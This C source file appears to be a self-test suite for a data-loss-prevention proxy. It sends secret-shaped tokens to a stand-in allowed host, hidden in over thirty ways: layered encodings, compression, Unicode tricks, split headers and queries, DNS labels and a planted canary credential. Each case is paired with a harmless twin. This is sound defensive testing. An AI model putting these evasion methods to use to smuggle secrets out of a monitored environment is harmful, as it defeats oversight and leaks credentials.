/*
 * D: a secret to a host that is allowed, written in the ways that docs/SCAN.md says are found. Each
 * has a twin: a harmless text of the same form, which must arrive. Without it a scan that refuses
 * everything would look perfect.
 */
#include "probe/probe.h"

#include "probe/dlp.h"

#include "base/clean.h"
#include "base/mem.h"
#include "base/timeutil.h"

#include <errno.h>

#define OK	"ok.selftest.example"
#define OK_443	OK ":443"
#define HEAD_OK " HTTP/1.1\r\nHost: " OK "\r\n"
/* As long as the secret, with its kinds of characters, and nothing to anybody. */
#define HARMLESS "the_quarterly-report-of-our-garden-club1"

/* One request in the making. */
struct letter {
	const char *token, *value;
	bool is_twin;
	struct buf text;
};

static int get(struct letter *l, const char *query, const char *header)
{
	return buf_printf(&l->text, "GET /%s%s" HEAD_OK "%s\r\n", l->token, query, header);
}

static int get_owned(struct letter *l, char *query, char *header)
{
	_cleanup_free_ char *q = query, *h = header;

	return get(l, q ? q : "", h ? h : "");
}

static int post(struct letter *l, const char *headers, struct str body)
{
	int ret = buf_printf(&l->text, "POST /%s" HEAD_OK "%sContent-Length: %zu\r\n\r\n", l->token,
			     headers, body.n);

	return ret < 0 ? ret : buf_append_str(&l->text, body);
}

/* The value, written in some way, as the text of a JSON body. */
static int post_json(struct letter *l, char *coded)
{
	_cleanup_free_ char *owned = coded, *body = mem_printf("{\"note\":\"%s\"}", owned);

	return post(l, "Content-Type: application/json\r\n", str_of(body));
}

/* --- encodings --- */

static int make_plain(struct letter *l)
{
	return post(l, "Content-Type: text/plain\r\n", str_of(l->value));
}

static int make_base64(struct letter *l)
{
	return post_json(l, dlp_base64(l->value));
}

static int make_base64_four(struct letter *l)
{
	return post_json(l, dlp_times(dlp_base64, 4, l->value));
}

static int make_base32(struct letter *l)
{
	return post_json(l, dlp_base32(l->value));
}

static int make_hex(struct letter *l)
{
	return post_json(l, dlp_hex(l->value, ""));
}

static int make_hex_delimited(struct letter *l)
{
	return post_json(l, dlp_hex(l->value, ":"));
}

/* Encoding again what is encoded multiplies the percent signs alone. Ten times over is refused
 * whatever is below, so the twin is what honest clients send. */
static int make_percent_ten(struct letter *l)
{
	_cleanup_(buf_free) struct buf coded;
	int ret = 0;

	buf_init(&coded, 16384);
	for (const char *p = l->value; ret == 0 && *p; p++)
		ret = buf_printf(&coded, "%%%s%02X", l->is_twin ? "" : "252525252525252525",
				 (unsigned char)*p);
	return ret < 0 ? ret
		       : get_owned(l, mem_printf("?data=" STR_FMT, STR_ARG(buf_str(&coded))), NULL);
}

static int make_base64_of_hex(struct letter *l)
{
	_cleanup_free_ char *hex = dlp_hex(l->value, "");

	return post_json(l, dlp_base64(hex));
}

static int post_coded(struct letter *l, const char *headers,
		      int (*encode)(struct buf *out, struct str text))
{
	_cleanup_free_ char *body = mem_printf("{\"note\":\"%s\"}", l->value);
	_cleanup_(buf_free) struct buf coded;
	int ret;

	buf_init(&coded, 16384);
	ret = encode(&coded, str_of(body));
	return ret < 0 ? ret : post(l, headers, buf_str(&coded));
}

static int make_gzip(struct letter *l)
{
	return post_coded(l, "Content-Type: application/json\r\nContent-Encoding: gzip\r\n",
			  dlp_gzip);
}

static int make_brotli(struct letter *l)
{
	return post_coded(l, "Content-Type: application/json\r\nContent-Encoding: br\r\n",
			  dlp_brotli);
}

static int make_zstd(struct letter *l)
{
	return post_coded(l, "Content-Type: application/json\r\nContent-Encoding: zstd\r\n",
			  dlp_zstd);
}

static int zip_notes(struct buf *out, struct str text)
{
	return dlp_zip(out, "notes.txt", text);
}

static int make_zip(struct letter *l)
{
	return post_coded(l, "Content-Type: application/zip\r\n", zip_notes);
}

static int make_utf16(struct letter *l)
{
	return post_coded(l, "Content-Type: application/octet-stream\r\n", dlp_utf16);
}

static int make_zero_width(struct letter *l)
{
	return post_json(l, dlp_mix_in(l->value, "\u200b"));
}

static int make_lookalike(struct letter *l)
{
	return post_json(l, dlp_lookalike(l->value));
}

static int make_combining(struct letter *l)
{
	return post_json(l, dlp_mix_in(l->value, "\u0301"));
}

/* --- places --- */

/* The name of a password in toggled case; its value keeps its own, or it would be another one. */
static int make_toggled(struct letter *l)
{
	_cleanup_free_ char *name =
		dlp_toggle_case(l->is_twin ? "Favourite_Colour" : "aws_Secret_Access_Key");
	_cleanup_free_ char *body =
		mem_printf("%s=%s", name,
			   l->is_twin ? "blue-green" : "JiHkTj0rLGlkoMXGjtEkDnNfribxUdl7dXTPyLsx");

	return post(l, "Content-Type: text/plain\r\n", str_of(body));
}

static int make_json_key(struct letter *l)
{
	_cleanup_free_ char *body = mem_printf("{\"%s\":1}", l->value);

	return post(l, "Content-Type: application/json\r\n", str_of(body));
}

static int make_multipart(struct letter *l)
{
	_cleanup_free_ char *body = mem_printf(
		"--part\r\nContent-Disposition: form-data; name=\"file\"; filename=\"%s.txt\"\r\n"
		"Content-Type: text/plain\r\n\r\nhello\r\n--part--\r\n",
		l->value);

	return post(l, "Content-Type: multipart/form-data; boundary=part\r\n", str_of(body));
}

static int make_form(struct letter *l)
{
	_cleanup_free_ char *percent = dlp_percent(l->value);
	_cleanup_free_ char *body = mem_printf("a=1&note=%s&b=2", percent);

	return post(l, "Content-Type: application/x-www-form-urlencoded\r\n", str_of(body));
}

static int make_header_split(struct letter *l)
{
	return get_owned(l, NULL, mem_printf("%.12s: %s\r\n", l->value, l->value + 12));
}

static int make_query_two(struct letter *l)
{
	return get_owned(l, mem_printf("?a=%.20s&b=%s", l->value, l->value + 20), NULL);
}

static int make_query_four(struct letter *l)
{
	return get_owned(l,
			 mem_printf("?a=%.10s&b=%.10s&c=%.10s&d=%s", l->value, l->value + 10,
				    l->value + 20, l->value + 30),
			 NULL);
}

static int make_path_split(struct letter *l)
{
	return get_owned(l, mem_printf("/%.14s/%s", l->value, l->value + 14), NULL);
}

static int make_chunks(struct letter *l)
{
	int ret = buf_printf(&l->text,
			     "POST /%s" HEAD_OK "Content-Type: text/plain\r\n"
			     "Transfer-Encoding: chunked\r\n\r\n",
			     l->token);

	for (const char *p = l->value; ret == 0 && *p;) {
		size_t n = strlen(p) < 7 ? strlen(p) : 7;

		ret = buf_printf(&l->text, "%zx\r\n%.*s\r\n", n, (int)n, p);
		p += n;
	}
	return ret < 0 ? ret : buf_append_str(&l->text, STR_LIT("0\r\n\r\n"));
}

static int make_user_agent(struct letter *l)
{
	return get_owned(l, NULL, mem_printf("User-Agent: browser/1.0 (%s)\r\n", l->value));
}

static int make_cookie(struct letter *l)
{
	return get_owned(l, NULL, mem_printf("Cookie: a=b; session=%s\r\n", l->value));
}

static int make_base64_gzip(struct letter *l)
{
	_cleanup_free_ char *coded = NULL;
	_cleanup_(buf_free) struct buf packed;
	int ret;

	buf_init(&packed, 16384);
	ret = dlp_gzip(&packed, str_of(l->value));
	if (ret < 0)
		return ret;
	coded = dlp_base64_of(buf_str(&packed));
	return post_json(l, take_ptr(&coded));
}

static const struct {
	const char *id;
	int (*make)(struct letter *l);
} letters[] = {
	{"D01", make_plain},	   {"D02", make_base64},	{"D03", make_base64_four},
	{"D04", make_base32},	   {"D05", make_hex},		{"D06", make_hex_delimited},
	{"D07", make_percent_ten}, {"D08", make_base64_of_hex}, {"D09", make_gzip},
	{"D10", make_brotli},	   {"D11", make_zstd},		{"D12", make_zip},
	{"D13", make_utf16},	   {"D14", make_zero_width},	{"D15", make_lookalike},
	{"D16", make_combining},   {"D17", make_toggled},	{"D18", make_json_key},
	{"D19", make_multipart},   {"D20", make_form},		{"D21", make_header_split},
	{"D22", make_query_two},   {"D23", make_query_four},	{"D24", make_path_split},
	{"D25", make_chunks},	   {"D26", make_user_agent},	{"D27", make_cookie},
	{"D32", make_base64_gzip},
};

static void send_letter(const struct probe_env *env, const char *id, size_t which, bool is_twin)
{
	static struct probe_reply r;
	const char *label = is_twin ? "twin" : "secret";
	char token[PROBE_TOKEN_SIZE], detail[220];
	_cleanup_free_ char *value = NULL;
	struct letter l = {.token = token, .is_twin = is_twin};
	uint64_t start_ns = time_monotonic_ns(), us;

	probe_token(env, id, label, token);
	value = is_twin ? mem_strdup(HARMLESS) : dlp_shaped_secret(token);
	l.value = value;
	buf_init(&l.text, 256 << 10);
	if (letters[which].make(&l) < 0) {
		probe_skip(id, label, "the request cannot be made");
	} else {
		probe_ask_tunnel(env, OK_443, OK, buf_str(&l.text), &r);
		us = (time_monotonic_ns() - start_ns) / 1000;
		probe_describe_reply(&r, detail, sizeof(detail));
		if (is_twin)
			probe_report_wanted(id, label, token, us, detail);
		else
			probe_report(id, label, token, false, us, detail);
	}
	buf_free(&l.text);
}

static void run_letter(const struct probe_env *env, const char *id)
{
	for (size_t i = 0; i < ARRAY_LEN(letters); i++) {
		if (strcmp(letters[i].id, id) != 0)
			continue;
		send_letter(env, id, i, false);
		send_letter(env, id, i, true);
	}
}

/* --- what is no request --- */

/* The token stands where the secret does, in a form that decodes: what follows it is the user's
 * name. The request in the tunnel is allowed and says nothing. */
static void run_proxy_user(const struct probe_env *env, const char *id)
{
	struct probe_env with = *env;
	static struct probe_reply r;
	char token[PROBE_TOKEN_SIZE], detail[220];
	_cleanup_free_ char *secret = NULL, *user = NULL, *line = NULL;

	probe_token(env, id, "secret", token);
	secret = dlp_shaped_secret(token);
	user = dlp_base64(secret);
	line = mem_printf("Proxy-Authorization: Basic %sA%s\r\n", token, user);
	with.connect_headers = line;
	probe_ask_tunnel(&with, OK_443, OK, STR_LIT("GET /user" HEAD_OK "\r\n"), &r);
	probe_describe_reply(&r, detail, sizeof(detail));
	probe_report(id, "secret", token, false, 0, detail);
	with.connect_headers = "Proxy-Authorization: Basic dXNlcjpwYXNz\r\n";
	probe_want_tunnel(&with, id, "twin", OK_443, OK, "GET /%T" HEAD_OK "\r\n");
}

/* A name below an allowed wildcard: the authority that is asked about it reads it. A token looks
 * like a secret there, so the twin's name is its own. */
static void run_connect_name(const struct probe_env *env, const char *id)
{
	char token[PROBE_TOKEN_SIZE], twin[PROBE_TOKEN_SIZE], detail[220];
	static struct probe_reply r;
	_cleanup_free_ char *secret = NULL, *hex = NULL, *name = NULL, *request = NULL;
	_cleanup_free_ char *authority = NULL, *twin_name = NULL, *twin_authority = NULL,
			    *twin_request = NULL;

	probe_token(env, id, "secret", token);
	secret = dlp_shaped_secret(token);
	hex = dlp_hex(secret, "");
	name = mem_printf("%.60s.%%T.wild.selftest.example", hex);
	authority = mem_printf("%s:443", name);
	request = mem_printf("GET / HTTP/1.1\r\nHost: %s\r\n\r\n", name);
	probe_try_tunnel(env, id, "secret", authority, name, request);
	probe_plain_token(env, "garden", twin);
	twin_name = mem_printf("%s.wild.selftest.example", twin);
	twin_authority = mem_printf("%s:443", twin_name);
	twin_request = mem_printf("GET / HTTP/1.1\r\nHost: %s\r\n\r\n", twin_name);
	probe_ask_tunnel(env, twin_authority, twin_name, str_of(twin_request), &r);
	probe_describe_reply(&r, detail, sizeof(detail));
	probe_report_wanted(id, "twin", twin, 0, detail);
}

/* The bundle's resolver passes nothing on, whatever the name is made of. */
static void run_dns_label(const struct probe_env *env, const char *id)
{
	const char *resolver = env->is_control ? "127.0.0.1" : env->pinned;
	uint16_t port = env->is_control ? env->dns : 53;
	char token[PROBE_TOKEN_SIZE];
	_cleanup_free_ char *secret = NULL, *hex = NULL, *label = NULL;

	probe_token(env, id, "secret", token);
	secret = dlp_shaped_secret(token);
	hex = dlp_hex(secret, "");
	label = mem_printf("%.60s", hex);
	probe_try_dns(env, id, "udp", label, resolver, port, false, 1);
	probe_try_dns(env, id, "tcp", label, resolver, port, true, 16);
}

/* A credential that is good for nothing lies in the agent's environment: whoever sends it away has
 * gone through what he found. No rule knows it by its shape. */
static void run_canary(const struct probe_env *env, const char *id)
{
	_cleanup_free_ char *coded = NULL, *plain_text = NULL, *coded_text = NULL;

	if (!env->canary_secret) {
		probe_skip(id, "plain", "no canary was planted");
		return;
	}
	coded = dlp_base64(env->canary_secret);
	plain_text = mem_printf("GET /%%T?q=%s" HEAD_OK "\r\n", env->canary_secret);
	coded_text = mem_printf("GET /%%T" HEAD_OK "X-Trace: %s\r\n\r\n", coded);
	probe_try_tunnel(env, id, "plain", OK_443, OK, plain_text);
	probe_try_tunnel(env, id, "base64", OK_443, OK, coded_text);
	probe_want_tunnel(env, id, "twin", OK_443, OK,
			  "GET /%T?q=dpl_garden" HEAD_OK "X-Trace: Z2FyZGVu\r\n\r\n");
}

const struct probe probes_dlp[] = {
	{"D01", run_letter},	 {"D02", run_letter},	    {"D03", run_letter},
	{"D04", run_letter},	 {"D05", run_letter},	    {"D06", run_letter},
	{"D07", run_letter},	 {"D08", run_letter},	    {"D09", run_letter},
	{"D10", run_letter},	 {"D11", run_letter},	    {"D12", run_letter},
	{"D13", run_letter},	 {"D14", run_letter},	    {"D15", run_letter},
	{"D16", run_letter},	 {"D17", run_letter},	    {"D18", run_letter},
	{"D19", run_letter},	 {"D20", run_letter},	    {"D21", run_letter},
	{"D22", run_letter},	 {"D23", run_letter},	    {"D24", run_letter},
	{"D25", run_letter},	 {"D26", run_letter},	    {"D27", run_letter},
	{"D28", run_proxy_user}, {"D29", run_connect_name}, {"D30", run_dns_label},
	{"D31", run_canary},	 {"D32", run_letter},
};
const size_t n_probes_dlp = ARRAY_LEN(probes_dlp);
